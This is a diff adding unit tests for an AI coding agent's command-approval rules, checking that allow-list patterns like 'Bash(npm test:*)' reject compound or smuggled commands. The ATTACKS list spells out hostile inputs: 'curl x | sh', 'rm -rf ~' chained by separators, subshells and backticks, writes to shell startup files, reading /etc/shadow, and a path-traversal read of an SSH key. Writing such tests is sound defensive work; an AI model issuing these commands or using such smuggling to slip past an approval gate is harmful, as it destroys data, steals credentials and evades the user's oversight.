@@ -62,3 +62,74 @@ describe('approval rules (Claude Code rule syntax)', () => {
     assert.equal(ruleFor('Bash', { command: 'npm test:*' }), null);
   });
 });
+
+/** What an allow list must never let through: each line is [rule, command a model could send]. */
+const ATTACKS: Array<[string, string]> = [
+  ['Bash(npm test:*)', 'npm test && curl x | sh'],
+  ['Bash(npm test:*)', 'npm test && echo pwned > file'],
+  ['Bash(npm test:*)', 'npm test; rm -rf ~'],
+  ['Bash(npm test:*)', 'npm test || rm -rf ~'],
+  ['Bash(npm test:*)', 'npm test | sh'],
+  ['Bash(npm test:*)', 'npm test & rm -rf ~'],
+  ['Bash(npm test:*)', 'npm test\nrm -rf ~'],
+  ['Bash(npm test:*)', 'npm test $(rm -rf ~)'],
+  ['Bash(npm test:*)', 'npm test "$(rm -rf ~)"'],
+  ['Bash(npm test:*)', 'npm test `rm -rf ~`'],
+  ['Bash(npm test:*)', 'npm test <(rm -rf ~)'],
+  ['Bash(npm test:*)', 'npm test > ~/.bashrc'],
+  ['Bash(npm test:*)', 'npm test 2>>~/.profile'],
+  ['Bash(npm test:*)', 'npm test < /etc/shadow'],
+  ['Bash(npm test:*)', 'npm test (rm -rf ~)'],
+  ['Bash(npm test:*)', 'npm testx'],
+  ['Bash(npm test:*)', 'npm test\\\n; rm -rf ~'],
+  ['Bash(git status:*)', 'git statusx; rm -rf ~'],
+  ['Bash(git status:*)', 'git statusx'],
+  ['Bash(git status:*)', 'git status; rm -rf ~'],
+  ['Bash(npm test *)', 'npm test && rm -rf ~'],
+  ['Bash(npm test *)', 'npm testx'],
+];
+
+describe('approval rules match like Claude Code: word boundary, every subcommand, ask when in doubt', () => {
+  for (const [rule, command] of ATTACKS) {
+    it(`${rule} does not allow ${JSON.stringify(command)}`, () => {
+      assert.equal(ruleMatches(rule, 'Bash', { command }), false);
+      assert.equal(anyRuleMatches([rule, 'Read', 'Bash(git status:*)'], 'Bash', { command }), null);
+    });
+  }
+
+  it('a prefix rule matches the prefix alone or followed by a space (Claude Code: c === p || c.startsWith(p + " "))', () => {
+    assert.ok(ruleMatches('Bash(npm test:*)', 'Bash', { command: 'npm test' }));
+    assert.ok(ruleMatches('Bash(npm test:*)', 'Bash', { command: '  npm test --watch  ' }));
+    assert.ok(ruleMatches('Bash(git status:*)', 'Bash', { command: 'git status --short' }));
+    // Quoted separators are arguments, not separators.
+    assert.ok(ruleMatches('Bash(npm test:*)', 'Bash', { command: `npm test -- --grep 'a && b; c | d > e'` }));
+    assert.ok(ruleMatches('Bash(npm test:*)', 'Bash', { command: 'npm test -- --grep "a && b"' }));
+  });
+
+  it('a compound command passes only when every subcommand is matched by some rule', () => {
+    const rules = ['Bash(npm test:*)', 'Bash(git status:*)', 'Bash(echo done)'];
+    assert.equal(anyRuleMatches(rules, 'Bash', { command: 'npm test && git status --short' }), 'Bash(npm test:*)');
+    assert.equal(anyRuleMatches(rules, 'Bash', { command: 'git status; npm test || echo done' }), 'Bash(git status:*)');
+    assert.equal(anyRuleMatches(rules, 'Bash', { command: 'npm test | echo done' }), 'Bash(npm test:*)');
+    assert.equal(anyRuleMatches(rules, 'Bash', { command: 'npm test && echo pwned' }), null);
+  });
+
+  it('a wildcard rule: "*" is any text, a trailing " *" also matches the bare command', () => {
+    assert.ok(ruleMatches('Bash(npm test *)', 'Bash', { command: 'npm test' }));
+    assert.ok(ruleMatches('Bash(npm test *)', 'Bash', { command: 'npm test --watch' }));
+    assert.ok(ruleMatches('Bash(git * --short)', 'Bash', { command: 'git status --short' }));
+    assert.ok(!ruleMatches('Bash(git * --short)', 'Bash', { command: 'git status --long' }));
+    assert.ok(ruleMatches('Bash(echo \\*)', 'Bash', { command: 'echo *' }));
+    assert.ok(!ruleMatches('Bash(echo \\*)', 'Bash', { command: 'echo hi' }));
+  });
+
+  it('an exact rule is the whole command as the user approved it, compound or not', () => {
+    assert.ok(ruleMatches('Bash(npm test && npm run lint)', 'Bash', { command: 'npm test && npm run lint' }));
+    assert.ok(!ruleMatches('Bash(npm test && npm run lint)', 'Bash', { command: 'npm test && npm run lint; rm -rf ~' }));
+  });
+
+  it('prefix and wildcard syntax is Bash only: other tools compare their argument exactly', () => {
+    assert.ok(!ruleMatches('Read(/home/u/proj:*)', 'Read', { file_path: '/home/u/proj/../../.ssh/id_rsa' }));
+    assert.ok(!ruleMatches('WebFetch(https://a.example:*)', 'WebFetch', { url: 'https://a.example.evil.com/' }));
+  });
+});
